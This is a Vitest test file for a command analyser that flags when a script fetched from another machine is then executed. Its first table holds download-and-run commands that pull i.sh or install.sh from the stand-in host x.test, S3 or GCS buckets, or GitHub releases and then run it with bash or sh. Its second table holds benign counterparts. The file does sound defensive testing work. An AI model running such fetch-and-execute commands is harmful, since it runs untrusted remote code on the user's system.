import { expect, it } from 'vitest';
import { told } from './told.js';

it.each([
  'scp x.test:i.sh . && bash i.sh', 'scp u@x.test:/srv/i.sh /tmp/ && bash /tmp/i.sh', 'scp -P 22 x.test:a run.sh; sh run.sh', 'rsync -a x.test:/srv/i.sh ./ && bash ./i.sh', 'rsync x.test::m/i.sh . && bash i.sh', 'sftp x.test:/srv/i.sh && bash i.sh',
  'aws s3 cp s3://b/i.sh . && bash i.sh', 'aws s3 cp s3://b/x run.sh --profile p && bash run.sh', 'gsutil cp gs://b/i.sh . && sh i.sh', 'gcloud storage cp gs://b/i.sh . && sh i.sh', 'timeout 60 scp x.test:i.sh . && bash i.sh',
  'gh release download v1 -R a/b -p install.sh && bash install.sh', 'gh release download --pattern=i.sh --dir out && sh out/i.sh', 'gh release download v1 -p x -O i.sh; bash i.sh',
])('what another machine gave is run: %s', async (command) => {
  expect((await told(command)).filter((line) => line.startsWith('execute host'))).not.toEqual([]);
});

it.each([
  'scp x.test:data.csv . && bash build.sh', 'scp i.sh x.test: && bash i.sh', 'rsync -a x.test:/srv/www/ www/ && bash build.sh', 'aws s3 cp s3://b/data.csv . && python3 etl.py', 'aws s3 cp build.sh s3://b/ && bash build.sh', "gh release download v1 -p '*.zip' && unzip a.zip", 'gh release view v1 && bash build.sh', 'scp x.test:i.sh . && cat i.sh', 'rsync -a src/ out/ && bash out/build.sh',
])('and is not by %s', async (command) => {
  expect((await told(command)).filter((line) => line.startsWith('execute host'))).toEqual([]);
});
